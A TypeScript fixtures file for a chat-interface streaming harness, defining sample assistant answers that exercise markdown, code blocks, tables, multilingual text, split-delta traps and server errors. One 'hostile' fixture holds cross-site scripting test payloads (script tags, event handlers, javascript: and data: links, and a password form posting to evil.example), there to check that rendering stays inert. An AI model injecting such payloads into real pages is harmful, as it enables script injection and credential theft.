import { longMixedContent } from './long.js'

/** One assistant answer the harness can stream. */
export interface Fixture {
  /** Stable name used in scenarios, controls and message ids. */
  name: string
  /** Human title for Storybook controls and docs. */
  title: string
  /** The question this answer replies to: what a story or a demo shows as the user's message above it. */
  question: string
  /** The complete answer: the concatenated deltas always equal this, byte for byte. */
  content: string
  /**
   * Scripted deltas (joined they equal `content`). Used with the `auto` chunking so that traps land exactly on
   * a delta boundary (e.g. `**` split in two).
   */
  script?: readonly string[]
  /** When set, the answer ends with `event: error {message}` instead of `done` (a server-side failure). */
  serverError?: string
}

const FENCE = '```'

function scripted(name: string, title: string, question: string, script: readonly string[], extra: Partial<Fixture> = {}): Fixture {
  return { name, title, question, content: script.join(''), script, ...extra }
}

const oneLiner: Fixture = {
  name: 'one-liner',
  title: 'One-liner',
  question: 'What is the capital of Australia?',
  content: 'Sure — the capital of Australia is **Canberra**.',
}

const shortAnswer: Fixture = {
  name: 'short-answer',
  title: 'Short multi-paragraph answer',
  question: 'How do you keep a streamed answer smooth?',
  content: [
    'Streaming responses arrive as a series of small text deltas, so the interface has to render text that is',
    'still being written.',
    '',
    'Two things keep this smooth:',
    '',
    '1. **Batching** — apply many deltas per animation frame instead of one re-render per token.',
    '2. **Stable blocks** — finished paragraphs never re-render; only the tail of the message changes.',
    '',
    'That is all there is to it. Ask me if you want the details of either one.',
  ].join('\n'),
}

const kitchenSink: Fixture = {
  name: 'kitchen-sink',
  title: 'Markdown kitchen sink',
  question: 'Show me everything markdown can do.',
  content: `# Release notes: markdown kitchen sink

This answer uses *every* common construct: **bold**, _italic_, ***both***, ~~strikethrough~~, \`inline code\`,
and a [link to the docs](https://example.com/docs "Docs title"), plus an autolink <https://example.com>.

## Lists

- First level item
  - Second level item with **bold**
    - Third level item with \`code\`
    - Another third level item
  - Back on the second level
- Another first level item

1. Ordered one
2. Ordered two
   1. Nested ordered
   2. Nested ordered, again
3. Ordered three

### Task list

- [x] Write the harness
- [ ] Stream the answer
- [ ] Ship it

> A blockquote with **emphasis**.
>
> It spans two paragraphs and quotes \`code\`.

| Feature | Status | Notes |
| :------ | :----: | ----: |
| Tables  | ✅     | right aligned |
| Links   | ✅     | [here](https://example.com) |
| Images  | ⚠️     | lazy |

![A small diagram](https://example.com/diagram.svg "Diagram")

---

#### Heading four

##### Heading five

###### Heading six

A final paragraph with a hard line break  
right here.
`,
}

const codeHeavy: Fixture = {
  name: 'code-heavy',
  title: 'Code-heavy (ts, python, bash, json, diff, unknown)',
  question: 'Show me the stream client in TypeScript, the endpoint in Python and a curl call.',
  content: `Here are the pieces you asked for.

${FENCE}ts
interface Delta {
  messageId: string
  delta: string
}

export async function* deltas(response: Response): AsyncGenerator<Delta> {
  const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader()
  for (;;) {
    const { value, done } = await reader.read()
    if (done) return
    yield JSON.parse(value) as Delta
  }
}
${FENCE}

${FENCE}python
from fastapi import FastAPI, Header

app = FastAPI()

@app.post("/api/sessions/{session_id}/messages")
async def post_message(session_id: str, authorization: str = Header(...)):
    return {"session": session_id, "ok": authorization.startswith("Bearer ")}
${FENCE}

${FENCE}bash
curl -N -H 'Authorization: Bearer demo' \\
  -H 'Accept: text/event-stream' \\
  -X POST -d '{"content":"hi"}' \\
  http://127.0.0.1:8787/api/sessions/s1/messages
${FENCE}

${FENCE}json
{
  "detail": [
    { "type": "missing", "loc": ["header", "authorization"], "msg": "Field required", "input": null }
  ]
}
${FENCE}

${FENCE}diff
--- a/client.ts
+++ b/client.ts
@@ -1,3 +1,4 @@
-const source = new EventSource(\`/stream?token=\${token}\`)
+const response = await fetch(url, {
+  headers: { Authorization: \`Bearer \${token}\` },
+})
${FENCE}

${FENCE}brainfuck-ish
+[-->-[>>+>-----<<]<--<---]>-.>>>+.>>..+++[.>]<<<<.+++.------.<<-.>>>>+.
${FENCE}

${FENCE}
A fence without any language at all.
${FENCE}

And inline: \`npm run mock-server -- --port 8787\`.
`,
}

function tableRows(n: number): string {
  const rows: string[] = []
  for (let i = 1; i <= n; i++) {
    rows.push(`| ${i} | model-${(i * 37) % 100} | ${(i * 13) % 97} ms | ${((i * 7919) % 10000) / 100} % | ${i % 3 === 0 ? '**slow**' : '`ok`'} |`)
  }
  return rows.join('\n')
}

const tableHeavy: Fixture = {
  name: 'table-heavy',
  title: 'Table-heavy',
  question: 'How fast is each model? Put the latency in tables.',
  content: `Latency by model:

| # | Model | p50 | Error rate | Note |
|--:|-------|----:|-----------:|:----:|
${tableRows(24)}

A narrow table:

| Key | Value |
|-----|-------|
| a | 1 |
| b | 2 |

A wide table that must scroll horizontally:

| ${Array.from({ length: 14 }, (_, i) => `Column ${i + 1}`).join(' | ')} |
| ${Array.from({ length: 14 }, () => '---').join(' | ')} |
| ${Array.from({ length: 14 }, (_, i) => `value-${i + 1}-with-some-length`).join(' | ')} |

A table with escaped pipes and inline code:

| Expression | Meaning |
|------------|---------|
| \`a \\| b\` | a or b |
| \`x => x\` | identity |
`,
}

const i18n: Fixture = {
  name: 'i18n',
  title: 'Emoji, CJK and RTL',
  question: 'Say hello in a few languages and scripts.',
  content: `Hello 👋! Here is the same greeting in a few scripts:

- 日本語: こんにちは、世界。ストリーミングのテストです。
- 中文: 你好，世界。这是流式传输测试。
- 한국어: 안녕하세요, 세계. 스트리밍 테스트입니다.
- العربية: مرحبا بالعالم. هذا اختبار للبث.
- עברית: שלום עולם. זוהי בדיקת הזרמה.
- Ελληνικά: Γειά σου Κόσμε.

Mixed direction: the word «שלום» inside an English sentence, and English inside Arabic: مرحبا API مرحبا.

Emoji with modifiers and joiners: 👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇯🇵 ❤️‍🔥 and combining marks: é (e + ◌́), ñ.

**太字の日本語** and *斜体* and \`コード\`.
`,
}

const streamingTraps: Fixture = scripted('streaming-traps', 'Streaming traps (half-written markdown)', 'Show me markdown that is hard to stream.', [
  'Traps ahead. A fence that opens',
  ' and closes:\n\n`',
  '``',
  'ts\nconst answer = ',
  '42\n',
  '`',
  '``\n\nThen **bo',
  'ld** split, and a star pair split in half: *',
  '*strong**',
  ' text.\n\nA half-written link: [the docs](',
  'https://exa',
  'mple.com/do',
  'cs) arrives in pieces.\n\n1',
  '. **',
  'Bold list item** first\n2. Second `co',
  'de` item\n\nA rule growing after a blank line:\n\n-',
  '-',
  '-',
  '\n\nAnd a setext heading growing under text\n-',
  '-',
  '-',
  '\n\nA table arriving row by row:\n\n| a |',
  ' b |\n|--',
  '-|---|\n| 1 | 2 |\n\nA trailing backslash \\',
  '* and an unclosed `inline',
  ' code` end.',
])

const hostile: Fixture = {
  name: 'hostile',
  title: 'Hostile content (HTML, script, javascript: links)',
  question: 'Can you show me some HTML and scripts?',
  content: `This answer tries to break out of the page. Everything below must render inert.

<script>window.__pwned = true; alert('xss')</script>

<img src="x" onerror="window.__pwned = true">

<div onclick="window.__pwned = true" style="position:fixed;inset:0">click me</div>

<iframe src="javascript:window.__pwned=true"></iframe>

<svg onload="window.__pwned = true"><circle r="10" /></svg>

[a javascript: link](javascript:window.__pwned=true) and [an encoded one](jav&#x09;ascript:alert(1)) and
[a data: link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).

![image with a javascript: source](javascript:window.__pwned=true)

<a href="javascript:window.__pwned = true">raw anchor</a>

<style>body { display: none }</style>

<form action="https://evil.example"><input name="password" autofocus onfocus="window.__pwned=true"></form>

Inline \`<script>\` in code is just text, and so is:

${FENCE}html
<script>alert('still just text')</script>
${FENCE}
`,
}

const serverError: Fixture = {
  name: 'server-error',
  title: 'Server-side error (ends with event: error)',
  question: 'What does the knowledge base say about streaming?',
  content: 'Let me look that up in the knowledge base. The first three results say',
  serverError: 'Upstream model timed out after 30 s. Try again in a moment.',
}

const mathEscapes: Fixture = {
  name: 'math-escapes',
  title: 'Math, escapes and special characters',
  question: 'Show me math, escapes and special characters.',
  content: String.raw`Inline math $e^{i\pi} + 1 = 0$ and display math:

$$
\int_0^1 x^2 \, dx = \frac{1}{3}
$$

Escaped markdown: \*not italic\*, \_not italic\_, \# not a heading, \[not a link\](nope), 1\. not a list.

Literal characters: < > & " ' \ | ~ ^ and HTML entities &amp; &lt; &copy; &#x1F600;.

Prices: $5 and $10 are not math. A path: C:\Users\name\file.txt. A regex: ` + '`/^\\d{3}-\\d{4}$/`' + String.raw`.
`,
}

const nesting: Fixture = {
  name: 'nesting',
  title: 'Quotes and lists nested',
  question: 'Show me quotes and lists nested inside each other.',
  content: `> Quoted list:
> - item one
>   - nested inside a quote
>     > a quote inside a list inside a quote
> - item two
>
> > A nested quote
> > > three levels deep

- A list item with a quote:
  > quoted text in a list
- A list item with code:

  ${FENCE}js
  console.log('indented fence')
  ${FENCE}

1. Ordered
   - mixed with bullets
     1. and ordered again
`,
}

const empty: Fixture = {
  name: 'empty',
  title: 'Empty answer (start then done)',
  question: 'Say nothing at all.',
  content: '',
}

const longLine: Fixture = {
  name: 'long-line',
  title: 'One very long unbroken line',
  question: 'Give me the download link.',
  content: `Here is the signed URL: https://example.com/download?token=${'a1b2c3d4e5f6'.repeat(200)}&expires=never\n\nand a long word: ${'Supercalifragilistic'.repeat(30)}.`,
}

const longMixed: Fixture = {
  name: 'long-mixed',
  title: 'Long mixed answer (≥ 100 KB)',
  question: 'Write a long report with code, tables and lists.',
  content: longMixedContent(),
}

/** Every built-in answer, by name. */
export const fixtures = {
  'one-liner': oneLiner,
  'short-answer': shortAnswer,
  'kitchen-sink': kitchenSink,
  'code-heavy': codeHeavy,
  'long-mixed': longMixed,
  'table-heavy': tableHeavy,
  i18n,
  'streaming-traps': streamingTraps,
  hostile,
  'server-error': serverError,
  'math-escapes': mathEscapes,
  nesting,
  empty,
  'long-line': longLine,
} as const satisfies Record<string, Fixture>

export type FixtureName = keyof typeof fixtures

/** Names of every built-in fixture, in a stable order (for controls and tests). */
export const fixtureNames = Object.keys(fixtures) as FixtureName[]
